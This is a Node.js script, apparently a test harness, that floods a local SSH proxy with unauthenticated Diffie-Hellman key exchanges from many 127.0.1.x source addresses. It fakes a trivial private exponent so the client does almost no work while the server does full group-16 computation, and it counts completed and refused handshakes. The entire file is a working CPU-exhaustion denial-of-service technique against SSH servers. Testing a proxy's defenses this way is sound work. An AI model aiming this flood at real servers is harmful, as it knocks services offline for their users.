// `node strangers.js PORT SOURCES`: as many key exchanges as the proxy takes, from 127.0.1.1 upwards, without ever authenticating.
'use strict';
const { Buffer } = require('node:buffer');
const crypto = require('node:crypto');
const { connect } = require('node:net');
const { setTimeout } = require('node:timers');

// Group 16 with the private exponent 1: dear for the proxy and free for the attacker, who shares its machine here.
crypto.createDiffieHellmanGroup = () => ({
  generateKeys: () => Buffer.of(2),
  computeSecret: (theirs) => theirs,
});
const { Client } = require('ssh2');

const [port, sources] = process.argv.slice(2).map(Number);
const AT_ONCE = 3;
let exchanges = 0;
let refused = 0;

function attack(source) {
  const client = new Client();
  let shaken = false;
  client.on('error', () => undefined);
  client.once('close', () => {
    if (!shaken) refused += 1;
    setTimeout(attack, shaken ? 0 : 50, source);
  });
  client.once('handshake', () => {
    shaken = true;
    exchanges += 1;
    client.destroy();
  });
  client.connect({
    sock: connect({ host: '127.0.0.1', port, localAddress: `127.0.1.${source}` }),
    username: 'x',
    authHandler: () => undefined,
    hostVerifier: () => true,
    readyTimeout: 0,
    algorithms: { kex: ['diffie-hellman-group16-sha512'], cipher: ['aes128-gcm@openssh.com'] },
  });
}

for (let source = 1; source <= sources; source += 1) for (let at = 0; at < AT_ONCE; at += 1) attack(source);
process.stdout.write('flooding\n');
process.on('SIGTERM', () => {
  process.stdout.write(`exchanges ${exchanges}, refused ${refused}\n`);
  process.exit(0);
});
